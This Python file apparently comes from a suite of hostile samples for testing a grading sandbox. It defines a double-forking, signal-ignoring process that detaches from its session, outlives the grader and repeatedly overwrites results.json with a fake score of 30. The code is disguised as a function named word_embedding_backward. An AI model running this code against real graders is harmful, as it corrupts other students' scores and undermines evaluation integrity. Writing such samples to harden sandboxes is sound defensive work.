"""Hope: a process that has left its family, its session and its terminal outlives the grader, and writes later."""

import os
import signal
import time

from a3 import kit

GOAL = "outlive"
ROUTE = "processes"
SCORE = 25


def attack():
    """Fork twice, ignore every signal, and wait for the next student."""
    for stopped in (False, True):
        if os.fork() == 0:
            kit.attempt(os.setsid)
            kit.attempt(kit.call, 112)
            for number in range(1, 32):
                kit.attempt(signal.signal, number, signal.SIG_IGN)
            if os.fork() == 0:
                for fd in range(3, 256):
                    kit.attempt(os.close, fd)
                if stopped:
                    os.kill(os.getpid(), signal.SIGSTOP)
                until = time.monotonic() + 60
                while time.monotonic() < until:
                    kit.attempt(lambda: open(f"/dev/shm/hostile-{os.getpid()}", "w").close())
                    kit.attempt(lambda: open("results.json", "w").write('{"score": 30}'))
                    time.sleep(0.2)
            os._exit(0)


word_embedding_backward = kit.mount(attack)
